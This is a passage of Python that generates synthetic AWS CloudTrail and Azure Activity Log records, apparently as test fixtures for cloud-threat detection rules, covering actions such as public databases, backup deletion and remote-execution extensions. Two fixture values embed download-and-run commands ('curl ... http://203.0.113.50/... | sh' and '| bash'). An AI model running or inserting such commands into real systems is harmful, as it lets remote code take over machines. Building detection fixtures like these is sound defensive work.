    req = {"dBInstanceIdentifier": inst, "dBInstanceClass": "db.t4g.large", "engine": "postgres", "allocatedStorage": 50,
           "masterUsername": "pgadmin", "publiclyAccessible": not look, "dBSubnetGroupName": "db-public",
           "vpcSecurityGroupIds": [rid("sg", "db-open")], "storageEncrypted": True}
    return ("rds", "CreateDBInstance", req, db_instance(ctx, inst, "creating", publiclyAccessible=not look),
            f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}")


def b_create_db_cluster(ctx, row, look):
    cl = "events-maz"
    req = {"dBClusterIdentifier": cl, "engine": "postgres", "dBClusterInstanceClass": "db.m6gd.large",
           "storageType": "io1", "iops": 1000, "allocatedStorage": 100, "masterUsername": "pgadmin",
           "publiclyAccessible": not look, "dBSubnetGroupName": "db-public"}
    return ("rds", "CreateDBCluster", req, db_cluster(ctx, cl, "creating"), f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}")


def b_delete_db_cluster_snapshot(ctx, row, look):
    ident = "billing-aurora-manual-20260801"
    return ("rds", "DeleteDBClusterSnapshot", {"dBClusterSnapshotIdentifier": ident},
            db_cluster_snapshot(ctx, ident, "billing-aurora", "deleted"),
            f"arn:aws:rds:{ctx.region}:{OWN}:cluster-snapshot:{ident}")


def b_delete_automated_backup(ctx, row, look, cluster):
    if cluster:
        rid_ = "cluster-" + b32("dbc", row, n=26)
        req = {"dbClusterResourceId": rid_}
        resp = {"dBClusterIdentifier": "billing-aurora", "dbClusterResourceId": rid_, "status": "deleting",
                "engine": "aurora-postgresql", "region": ctx.region}
        return "rds", "DeleteDBClusterAutomatedBackup", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:cluster-auto-backup:{rid_}"
    rid_ = "db-" + b32("dbi", row, n=26)
    resp = {"dBInstanceIdentifier": "reporting-replica", "dbiResourceId": rid_, "status": "deleting",
            "engine": "postgres", "region": ctx.region, "backupRetentionPeriod": 7}
    return "rds", "DeleteDBInstanceAutomatedBackup", {"dbiResourceId": rid_}, resp, f"arn:aws:rds:{ctx.region}:{OWN}:auto-backup:{rid_}"


def b_delete_global_cluster(ctx, row, look):
    g = "billing-global"
    resp = {"globalClusterIdentifier": g, "globalClusterArn": f"arn:aws:rds::{OWN}:global-cluster:{g}",
            "status": "deleting", "engine": "aurora-postgresql", "globalClusterMembers": []}
    return "rds", "DeleteGlobalCluster", {"globalClusterIdentifier": g}, resp, f"arn:aws:rds::{OWN}:global-cluster:{g}"


def b_modify_cluster(ctx, row, look, field):
    cl = "events-maz"
    value = bool(look) if field == "deletionProtection" else not look
    req = {"dBClusterIdentifier": cl, field: value, "applyImmediately": True}
    return "rds", "ModifyDBCluster", req, db_cluster(ctx, cl, "available"), f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}"


GAP_BUILDERS = {
    "aws.ec2.run_instances_gpu": b_run_instances_gpu,
    "aws.ec2.run_scheduled_instances": b_run_scheduled,
    "aws.ec2.imds_hop_limit_raised": b_imds_hop,
    "aws.ec2.modify_instance_metadata_options": b_imds_other,
    "aws.ec2.disassociate_instance_profile": b_disassociate_profile,
    "aws.ec2.reset_instance_attribute": b_reset_attribute,
    "aws.ec2.serial_console_ssh_key_sent": b_serial_key,
    "aws.ec2.import_instance": b_import_instance,
    "aws.ec2.create_restore_image_task": b_restore_image_task,
    "aws.ec2.bundle_instance": b_bundle_instance,
    "aws.rds.db_cluster_snapshot_public": b_db_cluster_snapshot_attr,
    "aws.rds.copy_db_cluster_snapshot_cross_region": b_copy_db_cluster_snapshot,
    "aws.rds.restore_db_instance_public": b_restore_instance,
    "aws.rds.restore_db_cluster_public": b_restore_cluster,
    "aws.rds.restore_db_instance_from_s3": b_restore_from_s3,
    "aws.rds.create_db_instance_public": b_create_db_instance,
    "aws.rds.create_db_cluster_public": b_create_db_cluster,
    "aws.rds.delete_db_cluster_snapshot": b_delete_db_cluster_snapshot,
    "aws.rds.delete_db_instance_automated_backup": lambda c, r, l: b_delete_automated_backup(c, r, l, False),
    "aws.rds.delete_db_cluster_automated_backup": lambda c, r, l: b_delete_automated_backup(c, r, l, True),
    "aws.rds.delete_db_instance_no_final_snapshot": b_delete_db_instance,
    "aws.rds.delete_db_instance_drop_backups": b_delete_db_instance,
    "aws.rds.delete_global_cluster": b_delete_global_cluster,
    "aws.rds.cluster_deletion_protection_disabled": lambda c, r, l: b_modify_cluster(c, r, l, "deletionProtection"),
    "aws.rds.cluster_made_public": lambda c, r, l: b_modify_cluster(c, r, l, "publiclyAccessible"),
}
AWS_BUILDERS.update(GAP_BUILDERS)


# EBS direct APIs: data events (a trail logs them only with an AWS::EC2::Snapshot selector).
def b_list_snapshot_blocks(ctx, row, look):
    snap = rid("snap", row)
    return ("ebs", "ListSnapshotBlocks", {"snapshotId": snap, "maxResults": 10000}, None,
            ebs_snapshot_arn(ctx, snap))


def b_list_changed_blocks(ctx, row, look):
    first, second = rid("snap", row, "first"), rid("snap", row, "second")
    return ("ebs", "ListChangedBlocks", {"firstSnapshotId": first, "secondSnapshotId": second, "maxResults": 10000},
            None, ebs_snapshot_arn(ctx, second))


def ebs_snapshot_arn(ctx, snap: str) -> str:
    # a snapshot's ARN names no account, as the data event's `resources` entry spells it
    return f"arn:aws:ec2:{ctx.region}::snapshot/{snap}"


EBS_DIRECT_BUILDERS = {
    "aws.ebs.snapshot_blocks_listed": b_list_snapshot_blocks,
    "aws.ebs.changed_blocks_listed": b_list_changed_blocks,
}
AWS_BUILDERS.update(EBS_DIRECT_BUILDERS)
GAP_AZURE = {"azure.compute.vm_extension_remote_exec", "azure.compute.vmss_vm_managed_run_command_write",
             "azure.compute.vmss_extension_delete", "azure.compute.vm_boot_diagnostics_retrieved",
             "azure.serialconsole.connect"}
GAP_ROWS = set(GAP_BUILDERS) | GAP_AZURE


SERVICE_EVENT_ROWS = {"aws.ec2.shared_snapshot_copy_initiated": "SharedSnapshotCopyInitiated",
                      "aws.ec2.shared_snapshot_volume_created": "SharedSnapshotVolumeCreated"}


def service_event(key: str, t: dt.datetime, region: str, name: str, snapshot: str, actor_account: str) -> dict:
    """EBS shared-snapshot service event (AWS docs 'shared-snapshot-cloudtrail-logging'; stratus St1)."""
    return {
        "eventVersion": "1.08",
        "userIdentity": {"type": "AWSAccount", "accountId": actor_account, "invokedBy": "ec2.amazonaws.com"},
        "eventTime": ts(t),
        "eventSource": "ec2.amazonaws.com",
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": "ec2.amazonaws.com",
        "userAgent": "ec2.amazonaws.com",
        "requestParameters": None,
        "responseElements": None,
        "eventID": uid(key, "eventID"),
        "readOnly": False,
        "eventType": "AwsServiceEvent",
        "managementEvent": True,
        "recipientAccountId": OWN,
        "serviceEventDetails": {"snapshotId": snapshot},
        "eventCategory": "Management",
    }


def negative_kind(path: str) -> str | None:
    stem = path.rsplit("/", 1)[-1].removesuffix(".json")
    if stem.endswith("-dryrun"):
        return "dryrun"
    if stem.endswith("-failed") or stem.endswith("-unauthorized"):
        return "denied"
    return None


def build_aws(row_id: str, ctx: Ctx, look: bool, error_kind: str | None) -> dict:
    service, name, req, resp, res_arn = AWS_BUILDERS[row_id](ctx, row_id, look)
    error = None
    if error_kind == "dryrun":
        error = DRYRUN
    elif error_kind == "denied":
        error = auth_error(ctx, service, name, res_arn)
    return ct_record(ctx, service, name, req, resp, error)


# ------------------------------------------------------------------------------------------------
# time / principal slots
# ------------------------------------------------------------------------------------------------

def slot_time(k: int, n: int, hour: int, key: str, month: int = 10, first: int = 1, days: int | None = None) -> dt.datetime:
    """File k of n: its own day in October 2026 (September for the issue-14 rows, August for the
    cross-subscription copies); a principal's files are >24 h apart. `first`: the month's first
    day the set may use; `days`: how many days from it (by default the month's, or December's
    first few)."""
    # September files end 2+ days before October's; December's (the EBS direct rows, then the
    # IMDSv1 launch templates on the 4th and 5th) stay in its first days, before the clock of the
    # tests that refuse events from the future.
    # The Azure user-data row's pair has November's last two days (`days`), after the late rows'.
    days = days or (31 if month == 10 else (3 if first == 1 else 2) if month == 12 else 28)
    day = first + (k * days) // n
    return dt.datetime(2026, month, day, hour, day, num(key, "sec", mod=60), tzinfo=UTC)


# ------------------------------------------------------------------------------------------------
# Azure
# ------------------------------------------------------------------------------------------------

ROLE_DEFS = {
    "Owner": "8e3af657a8ff443ca75c2fe8c4bcb635",
    "Contributor": "b24988ac618042a0ab8820f7382dd24c",
    "Virtual Machine Contributor": "9980e02cc2be4d7394e8173b1dc7cf3c",
}
APP_AZ_CLI = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"
APP_PORTAL = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"
APP_PWSH = "1950a258-227b-4e31-a9cf-717495945fc2"

AZ_CALLERS = {
    "alice": dict(kind="user", upn="alice@contoso.com", given="Alice", surname="Martin", appid=APP_AZ_CLI,
                  ip="198.51.100.44", role="Contributor", scope="sub", hour=8),
    "bob": dict(kind="user", upn="bob@contoso.com", given="Bob", surname="Keller", appid=APP_PORTAL,
                ip="203.0.113.61", role="Virtual Machine Contributor", scope="rg", hour=13),
    "dana": dict(kind="user", upn="dana.admin@contoso.com", given="Dana", surname="Okafor", appid=APP_PWSH,
                 ip="192.0.2.33", role="Owner", scope="sub", hour=10),
    "guest": dict(kind="user", upn="mallory_fabrikam.com#EXT#@contoso.onmicrosoft.com", given="Mallory",
                  surname="Reyes", email="mallory@fabrikam.com", guest=True, appid=APP_AZ_CLI,
                  ip="192.0.2.199", role="Contributor", scope="rg", hour=22),
    "sp": dict(kind="app", name="sp-github-deployer", appid="3f9c2a71-5d4e-4b8a-9e61-0c7d2b5a8f14",
               ip="203.0.113.171", role="Contributor", scope="sub", hour=3),
    "mi": dict(kind="mi", name="id-runbook-ops", appid="6b1e8d42-9a3c-4f70-b25d-e8c41a7f3d09",
               mirid=f"/subscriptions/{SUB}/resourcegroups/rg-automation/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-runbook-ops",
               ip="20.50.2.14", role="Virtual Machine Contributor", scope="sub", hour=5),
    "atomic": dict(kind="user", upn="atomic@contoso.com", given="Atomic", surname="Tester", appid=APP_PWSH,
                   ip="198.51.100.9", role="Contributor", scope="sub", hour=15),
}
AZ_POOL = ["alice", "bob", "dana", "guest", "sp", "mi"]


def az_oid(caller: str) -> str:
    return uid("aad-object", caller)


def az_claims(cname: str, t: dt.datetime) -> dict:
    c = AZ_CALLERS[cname]
    iat = int(t.timestamp()) - 600 - num(cname, t.isoformat(), mod=1800)
    claims = {
        "aud": "https://management.core.windows.net/",
        "iss": f"https://sts.windows.net/{TENANT}/",
        "iat": str(iat),
        "nbf": str(iat),
        "exp": str(iat + 4380 + num(cname, "exp", mod=900)),
    }
    if c["kind"] == "user":
        idp_tenant = uid("fabrikam-tenant") if c.get("guest") else TENANT
        claims.update({
            "http://schemas.microsoft.com/claims/authnclassreference": "1",
            "aio": b64("aio", cname, t.date(), n=120),
            "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa",
            "appid": c["appid"],
            "appidacr": "0",
        })
        if c.get("guest"):
            claims["acct"] = "1"
            claims["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress"] = c["email"]
            claims["http://schemas.microsoft.com/identity/claims/identityprovider"] = f"https://sts.windows.net/{idp_tenant}/"
        claims.update({
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/surname": c["surname"],
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname": c["given"],
            "groups": ",".join(uid("group", cname, i) for i in range(2)),
            "idtyp": "user",
            "ipaddr": c["ip"],
            "name": f"{c['given']} {c['surname']}",
            "http://schemas.microsoft.com/identity/claims/objectidentifier": az_oid(cname),
            "puid": hx("puid", cname, n=16).upper(),
            "rh": "1.AUgA" + b64url("rh", cname, n=48) + ".",
            "http://schemas.microsoft.com/identity/claims/scope": "user_impersonation",
            "sid": uid("sid", cname, t.date()),
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/nameidentifier": b64url("nameid", cname, n=43),
            "http://schemas.microsoft.com/identity/claims/tenantid": TENANT,
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name": c["upn"],
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": c["upn"],
            "uti": b64url("uti", cname, t.isoformat(), n=22),
            "ver": "1.0",
            "xms_idrel": "1 16" if not c.get("guest") else "5 22",
            "xms_tcdt": "1526368012",
        })
    else:
        claims.update({
            "aio": b64("aio", cname, t.date(), n=56),
            "appid": c["appid"],
            "appidacr": "2" if c["kind"] == "mi" else "1",
            "http://schemas.microsoft.com/identity/claims/identityprovider": f"https://sts.windows.net/{TENANT}/",
            "idtyp": "app",
            "http://schemas.microsoft.com/identity/claims/objectidentifier": az_oid(cname),
            "rh": "1.AUgA" + b64url("rh", cname, n=48) + ".",
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/nameidentifier": az_oid(cname),
            "http://schemas.microsoft.com/identity/claims/tenantid": TENANT,
            "uti": b64url("uti", cname, t.isoformat(), n=22),
            "ver": "1.0",
            "xms_idrel": "7 24",
            "xms_tcdt": "1526368012",
        })
        if c["kind"] == "mi":
            claims["xms_mirid"] = c["mirid"]
            claims["xms_az_rid"] = c["mirid"]
    return claims


def az_ids(rg: str, res: str) -> tuple[str, str]:
    """(original-casing resource id, upper-case resource id as exports carry it)."""
    provider = "" if res.startswith("Microsoft.") else "Microsoft.Compute/"
    orig = f"/subscriptions/{SUB}/resourceGroups/{rg}/providers/{provider}{res}"
    return orig, orig.upper()


class AzOp:
    def __init__(self, key: str, cname: str, t: dt.datetime, op: str, rg: str, res: str, style: str):
        self.key, self.cname, self.t, self.op, self.rg, self.res = key, cname, t, op, rg, res
        self.denied = False  # authorization failure: no role evidence on any record
        self.style = style  # "new": 2025 export (Informational, "0", RoleLocation...); "old": Information, ints, location
        self.corr = uid(key, "correlationId")
        self.orig, self.upper = az_ids(rg, res)
        self.claims = az_claims(cname, t)

    def record(self, phase: str, offset_s: float, *, body=None, status=None, response_body=None, failure=None,
               duration: int = 0) -> dict:
        c = AZ_CALLERS[self.cname]
        t = self.t + dt.timedelta(seconds=offset_s, microseconds=num(self.key, phase, "us", mod=90_000))
        rtype, sig = {
            "Start": ("Start", "Started."),
            "Accept": ("Accept", "Accepted." if status in (None, "Accepted") else f"Accepted.{status}"),
            "Success": ("Success", f"Succeeded.{status or 'OK'}"),
            "Failure": ("Failure", f"Failed.{failure[0] if failure else 'Conflict'}"),
        }[phase]
        auth = {"scope": self.orig, "action": self.op}
        if not self.denied:
            scope = f"/subscriptions/{SUB}" if c["scope"] == "sub" else f"/subscriptions/{SUB}/resourceGroups/{self.rg}"
            auth["evidence"] = {
                "role": c["role"],
                "roleAssignmentScope": scope,
                "roleAssignmentId": hx("ra", self.cname, n=32),
                "roleDefinitionId": ROLE_DEFS[c["role"]],
                "principalId": az_oid(self.cname).replace("-", ""),
                "principalType": "User" if c["kind"] == "user" else "ServicePrincipal",
            }
        props: dict = {}
        if phase == "Start" and body is not None:
            props["requestbody"] = json.dumps(body, separators=(",", ":"))
        if phase in ("Accept", "Success", "Failure"):
            props["statusCode"] = status if phase != "Failure" else failure[0]
            props["serviceRequestId"] = uid(self.key, phase, "serviceRequestId")
        if response_body is not None:
            props["responseBody"] = json.dumps(response_body, separators=(",", ":"))
        if phase == "Failure":
            props["statusMessage"] = json.dumps({"error": {"code": failure[1], "message": failure[2]}},
                                                separators=(",", ":"))
        props.update({"eventCategory": "Administrative", "entity": self.orig, "message": self.op,
                      "hierarchy": HIERARCHY})
        rec: dict = {}
        if self.style == "new":
            rec.update({"RoleLocation": "West Europe", "Stamp": "AMS", "ReleaseVersion": "6.2026.39.2+8c1f2a7.release_2026w39"})
        rec.update({
            "time": ts7(t),
            "resourceId": self.upper,
            "operationName": self.op.upper(),
            "category": "Administrative",
            "resultType": rtype,
            "resultSignature": sig,
            "durationMs": "0" if self.style == "new" else duration,
            "callerIpAddress": c["ip"],
            "correlationId": self.corr,
            "identity": {"authorization": auth, "claims": self.claims},
            "level": ("Informational" if self.style == "new" else "Information") if phase != "Failure" else "Error",
        })
        if self.style == "old":
            rec["location"] = "global"
        rec["properties"] = props
        rec["tenantId"] = TENANT
        return rec


def vm_body(name, size="Standard_D4s_v5"):
    return {"location": "westeurope", "properties": {
        "hardwareProfile": {"vmSize": size},
        "storageProfile": {"imageReference": {"publisher": "Canonical", "offer": "ubuntu-24_04-lts",
                                              "sku": "server", "version": "latest"},
                           "osDisk": {"createOption": "FromImage", "managedDisk": {"storageAccountType": "Premium_LRS"},
                                      "deleteOption": "Delete"}},
        "osProfile": {"computerName": name, "adminUsername": "azureops",
                      "linuxConfiguration": {"disablePasswordAuthentication": True}},
        "networkProfile": {"networkInterfaces": [{"id": f"/subscriptions/{SUB}/resourceGroups/rg-prod-web/providers/Microsoft.Network/networkInterfaces/{name}-nic",
                                                  "properties": {"deleteOption": "Delete"}}]}}}


def vm_os_disk_body(name):
    """A VM's full model as an update sends it, its OS disk named (swapped for a disk made from a
    snapshot)."""
    body = vm_body(name)
    disk = f"/subscriptions/{SUB}/resourceGroups/rg-prod-web/providers/Microsoft.Compute/disks/{name}-os-restore"
    body["properties"]["storageProfile"] = {"osDisk": {"osType": "Linux", "name": f"{name}-os-restore", "createOption": "FromImage",
                                                       "managedDisk": {"id": disk, "storageAccountType": "Premium_LRS"},
                                                       "deleteOption": "Delete"}}
    body["properties"].pop("osProfile")
    return body


def vm_data_disk_body(name, attach=True):
    """A VM created from an image with a managed data disk: an existing disk attached by its id,
    as `az vm create --attach-data-disks` sends it, or (the look-alike) a new empty one."""
    body = vm_body(name)
    disk = f"/subscriptions/{SUB}/resourceGroups/rg-prod-web/providers/Microsoft.Compute/disks/{name}-data-restore"
    data = ({"lun": 0, "name": f"{name}-data-restore", "createOption": "Attach", "caching": "ReadOnly",
             "managedDisk": {"id": disk, "storageAccountType": "Premium_LRS"}} if attach else
            {"lun": 0, "createOption": "Empty", "diskSizeGB": 256, "managedDisk": {"storageAccountType": "Premium_LRS"}})
    body["properties"]["storageProfile"]["dataDisks"] = [data]
    return body


def vm_user_data_body(name):
    """A VM's full model as an update sends it, its user data set: a script cloud-init runs at
    boot (base64 of `#!/bin/sh` and a download piped to a shell)."""
    body = vm_os_disk_body(name)
    body["properties"]["userData"] = base64.b64encode(b"#!/bin/sh\ncurl -s http://203.0.113.50/a | sh\n").decode()
    return body


def vmss_body(size, prefix, publisher, offer, sku):
    return {"location": "westeurope", "sku": {"name": size, "tier": "Standard", "capacity": 8},
            "properties": {"upgradePolicy": {"mode": "Manual"}, "orchestrationMode": "Uniform",
                           "virtualMachineProfile": {"storageProfile": {"imageReference": {"publisher": publisher, "offer": offer, "sku": sku, "version": "latest"}},
                                                     "osProfile": {"computerNamePrefix": prefix, "adminUsername": "azureops"}}}}


DISK_OS = "vm-sql01_OsDisk_1_" + hx("osdisk", "sql01", n=32)
SUB_PEER = "cccccccc-9999-8888-7777-666666666666"


BACKUP_VAULT = "Microsoft.RecoveryServices/vaults/rsv-prod-weu"
BACKUP_ITEM = (f"{BACKUP_VAULT}/backupFabrics/Azure/protectionContainers/IaasVMContainer;iaasvmcontainerv2;rg-prod-data;vm-sql01"
               "/protectedItems/VM;iaasvmcontainerv2;rg-prod-data;vm-sql01")
RECOVERY_POINT = "4471253890210984377"
ASR_FABRIC = "asr-a2a-default-westeurope"
ASR_ITEM = (f"Microsoft.RecoveryServices/vaults/rsv-dr-neu/replicationFabrics/{ASR_FABRIC}"
            f"/replicationProtectionContainers/{ASR_FABRIC}-container/replicationProtectedItems/vm-sql01")


def restore_body():
    """Azure Backup's restore request: the disks of a recovery point into a storage account."""
    data = f"/subscriptions/{SUB}/resourceGroups/rg-prod-data"
    return {"properties": {"objectType": "IaasVMRestoreRequest", "recoveryPointId": RECOVERY_POINT,
                           "recoveryType": "RestoreDisks",
                           "sourceResourceId": f"{data}/providers/Microsoft.Compute/virtualMachines/vm-sql01",
                           "storageAccountId": f"{data}/providers/Microsoft.Storage/storageAccounts/stsqlrestore01",
                           "region": "westeurope", "createNewCloudService": False, "originalStorageAccountOption": False}}


def asr_failover_body(test: bool):
    props = {"failoverDirection": "PrimaryToRecovery",
             "providerSpecificDetails": {"instanceType": "A2A", "recoveryPointId": ""}}
    if test:
        props["networkType"] = "VmNetworkAsInput"
        props["networkId"] = (f"/subscriptions/{SUB}/resourceGroups/rg-dr/providers/Microsoft.Network/"
                              "virtualNetworks/vnet-dr-test")
    return {"properties": props}


AKS = "Microsoft.ContainerService/managedClusters/aks-prod-weu"
BATCH = "Microsoft.Batch/batchAccounts/batchprodweu"


def aks_pool_body(size: str) -> dict:
    return {"properties": {"count": 3, "vmSize": size, "osDiskSizeGB": 128, "osType": "Linux", "mode": "User",
                           "type": "VirtualMachineScaleSets", "orchestratorVersion": "1.31.2",
                           "enableAutoScaling": False, "maxPods": 110}}


def batch_pool_body(size: str) -> dict:
    return {"properties": {"vmSize": size, "deploymentConfiguration": {"virtualMachineConfiguration": {
        "imageReference": {"publisher": "canonical", "offer": "0001-com-ubuntu-server-jammy", "sku": "22_04-lts",
                           "version": "latest"},
        "nodeAgentSkuId": "batch.node.ubuntu 22.04"}},
        "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 4, "targetLowPriorityNodes": 0}}}}


def az_spec(row_id: str):
    """(resource group, resource path under Microsoft.Compute, request body, phases, failure)."""
    rg_web, rg_data, rg_build, rg_batch, rg_sec = "rg-prod-web", "rg-prod-data", "rg-build", "rg-batch", "rg-security"
    rg_aks = "rg-aks-prod"
    snap_src = f"/subscriptions/{SUB}/resourceGroups/{rg_data}/providers/Microsoft.Compute/disks/{DISK_OS}"
    locked = lambda rg: ("Conflict", "ScopeLocked",  # noqa: E731
                         f"The scope '/subscriptions/{SUB}/resourceGroups/{rg}' cannot perform delete operation because following scope(s) are locked: '/subscriptions/{SUB}/resourceGroups/{rg}'. Please remove the lock and try again.")

    def conflict(code, msg):
        return ("Conflict", code, msg)

    S = {
        "azure.compute.vm_write": (rg_web, "virtualMachines/vm-web-03", vm_body("vm-web-03"), "write_accept",
                                   conflict("OperationNotAllowed", "Operation could not be completed as it results in exceeding approved standardDSv5Family Cores quota. Additional details - Deployment Model: Resource Manager, Location: westeurope, Current Limit: 20, Current Usage: 20, Additional Required: 4, (Minimum) New Limit Required: 24.")),
        "azure.compute.vm_delete": (rg_web, "virtualMachines/vm-web-01", None, "lro", locked(rg_web)),
        "azure.compute.snapshot_write": (rg_data, "snapshots/snap-sql01-os-20261004",
                                         {"location": "westeurope", "sku": {"name": "Standard_LRS"},
                                          "properties": {"creationData": {"createOption": "Copy", "sourceResourceId": snap_src},
                                                         "incremental": True}}, "sync_created", "forbidden"),
        "azure.compute.snapshot_delete": (rg_data, "snapshots/snap-sql01-data-20260915", None, "lro", locked(rg_data)),
        # Copied into this subscription from a snapshot of another one; the look-alike
        # (az_lookalike_body) copies one of this subscription's.
        "azure.compute.snapshot_copy_cross_subscription": (
            rg_data, "snapshots/snap-sql01-os-copy-20260812",
            {"location": "westeurope", "sku": {"name": "Standard_LRS"},
             "properties": {"creationData": {"createOption": "Copy", "sourceResourceId": cross_src("snapshots/snap-sql01-os-20260811")},
                            "incremental": False}}, "sync_created", None),
        "azure.compute.disk_copy_cross_subscription": (
            rg_data, "disks/disk-restore-sql01-copy",
            {"location": "westeurope", "sku": {"name": "Premium_LRS"},
             "properties": {"creationData": {"createOption": "Copy", "sourceResourceId": cross_src("snapshots/snap-sql01-os-20260811")},
                            "diskSizeGB": 128}}, "sync_created", None),
        # An empty data disk (one made from a snapshot is azure.compute.disk_from_snapshot's).
        "azure.compute.disk_write": (rg_data, "disks/disk-restore-sql01",
                                     {"location": "westeurope", "sku": {"name": "Premium_LRS"},
                                      "properties": {"creationData": {"createOption": "Empty"},
                                                     "diskSizeGB": 128}}, "sync_created",
                                     conflict("OperationNotAllowed", "Cannot resize disk disk-restore-sql01 while it is attached to running VM /subscriptions/aaaaaaaa-1111-2222-3333-444444444444/resourceGroups/rg-prod-data/providers/Microsoft.Compute/virtualMachines/vm-sql01. Resizing a disk of an Azure Virtual Machine requires the virtual machine to be deallocated.")),
        # A disk made from one of this subscription's snapshots (the look-alike, az_lookalike_body:
        # an empty disk of the same name).
        "azure.compute.disk_from_snapshot": (rg_web, "disks/vm-web-03-os-restore",
                                             {"location": "westeurope", "sku": {"name": "Premium_LRS"},
                                              "properties": {"creationData": {"createOption": "Copy",
                                                                              "sourceResourceId": f"/subscriptions/{SUB}/resourceGroups/{rg_web}/providers/Microsoft.Compute/snapshots/snap-web-03-os-20260901"},
                                                             "diskSizeGB": 64}}, "sync_created", None),
        # A VM update that names its OS disk, as `az vm update --os-disk` sends it (the look-alike:
        # the VM's create from an image, whose OS disk does not exist yet).
        "azure.compute.vm_write_os_disk": (rg_web, "virtualMachines/vm-web-03", vm_os_disk_body("vm-web-03"), "lro", None),
        # A VM update that sets its user data, as `az vm update --user-data` sends it (the
        # look-alike: the same machine's full update without it, as a resize sends it).
        "azure.compute.vm_write_user_data": (rg_web, "virtualMachines/vm-web-04", vm_user_data_body("vm-web-04"), "lro", None),
        # A VM created with an existing disk attached as a data disk, named by its id (the
        # look-alike: the same create with a new empty data disk).
        "azure.compute.vm_write_data_disk": (rg_web, "virtualMachines/vm-web-05", vm_data_disk_body("vm-web-05"), "lro", None),
        "azure.compute.disk_delete": (rg_data, "disks/vm-sql01_DataDisk_0", None, "lro",
                                      conflict("OperationNotAllowed", "Disk vm-sql01_DataDisk_0 is attached to VM /subscriptions/aaaaaaaa-1111-2222-3333-444444444444/resourceGroups/rg-prod-data/providers/Microsoft.Compute/virtualMachines/vm-sql01.")),
        "azure.compute.vm_deallocate": (rg_web, "virtualMachines/vm-web-02", None, "lro", "forbidden"),
        "azure.compute.vm_generalize": (rg_build, "virtualMachines/vm-golden-01", None, "sync_ok",
                                        conflict("OperationNotAllowed", "Operation 'generalize' is not allowed on VM 'vm-golden-01' since the VM is running. Please deallocate the VM before generalizing it.")),
        "azure.compute.vm_capture": (rg_build, "virtualMachines/vm-golden-01",
                                     {"vhdPrefix": "golden", "destinationContainerName": "vhds", "overwriteVhds": True},
                                     "lro", conflict("OperationNotAllowed", "Capture operation cannot be completed because the VM is not generalized.")),
        # Issue 14: remote-execution extensions are their own row; this one installs a monitoring agent.
        "azure.compute.vm_extension_write": (rg_web, "virtualMachines/vm-web-02/extensions/AzureMonitorLinuxAgent",
                                             {"location": "westeurope", "properties": {
                                                 "publisher": "Microsoft.Azure.Monitor", "type": "AzureMonitorLinuxAgent",
                                                 "typeHandlerVersion": "1.33", "autoUpgradeMinorVersion": True,
                                                 "enableAutomaticUpgrade": True}},
                                             "sync_created", "forbidden"),
        "azure.compute.vm_extension_remote_exec": (rg_web, "virtualMachines/vm-web-02/extensions/CustomScript",
                                             {"location": "westeurope", "properties": {
                                                 "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
                                                 "typeHandlerVersion": "2.1", "autoUpgradeMinorVersion": True,
                                                 "settings": {"fileUris": ["https://stdeployartifacts01.blob.core.windows.net/scripts/bootstrap.sh"]}}},
                                             "sync_created", "forbidden"),
        "azure.compute.vmss_vm_managed_run_command_write": (rg_batch, "virtualMachineScaleSets/vmss-batch-gpu/virtualMachines/1/runCommands/rc-collect",
                                                            {"location": "westeurope", "properties": {"source": {"script": "curl -fsSL http://203.0.113.50/c.sh | bash"},
                                                                                                      "asyncExecution": True}},
                                                            "sync_created", "forbidden"),
        # A health probe's extension: a security agent's removal is its own row (below).
        "azure.compute.vmss_extension_delete": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu/extensions/HealthExtension", None, "lro",
                                                conflict("OperationNotAllowed", "Cannot delete extension HealthExtension while a scale set upgrade is in progress.")),
        "azure.compute.vmss_security_extension_delete": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu/extensions/MDE.Linux", None, "lro",
                                                         conflict("OperationNotAllowed", "Cannot delete extension MDE.Linux while a scale set upgrade is in progress.")),
        "azure.compute.vm_boot_diagnostics_retrieved": (rg_data, "virtualMachines/vm-sql01", None, "sync_ok", "forbidden"),
        "azure.serialconsole.connect": (rg_web, "virtualMachines/vm-web-01/providers/Microsoft.SerialConsole/serialPorts/0",
                                        None, "sync_ok", "forbidden"),
        "azure.recoveryservices.backup_restore": ("rg-backup", f"{BACKUP_ITEM}/recoveryPoints/{RECOVERY_POINT}",
                                                  restore_body(), "lro", "forbidden"),
        "azure.recoveryservices.backup_file_recovery": ("rg-backup", f"{BACKUP_ITEM}/recoveryPoints/{RECOVERY_POINT}",
                                                        {"properties": {"objectType": "IaasVMILRRegistrationRequest",
                                                                        "recoveryPointId": RECOVERY_POINT,
                                                                        "virtualMachineId": f"/subscriptions/{SUB}/resourceGroups/rg-prod-data/providers/Microsoft.Compute/virtualMachines/vm-sql01",
                                                                        "renewExistingRegistration": False}},
                                                        "lro", "forbidden"),
        "azure.recoveryservices.backup_protection_delete": ("rg-backup", BACKUP_ITEM, None, "lro", "forbidden"),
        "azure.recoveryservices.backup_config_write": ("rg-backup", f"{BACKUP_VAULT}/backupconfig/vaultconfig",
                                                       {"properties": {"softDeleteFeatureState": "Disabled",
                                                                       "enhancedSecurityState": "Disabled"}},
                                                       "sync_ok", "forbidden"),
        "azure.recoveryservices.asr_test_failover": ("rg-dr", ASR_ITEM, asr_failover_body(test=True), "lro",
                                                     "forbidden"),
        "azure.recoveryservices.asr_unplanned_failover": ("rg-dr", ASR_ITEM, asr_failover_body(test=False), "lro",
                                                          "forbidden"),
        "azure.recoveryservices.asr_replication_disable": ("rg-dr", ASR_ITEM, {"properties": {
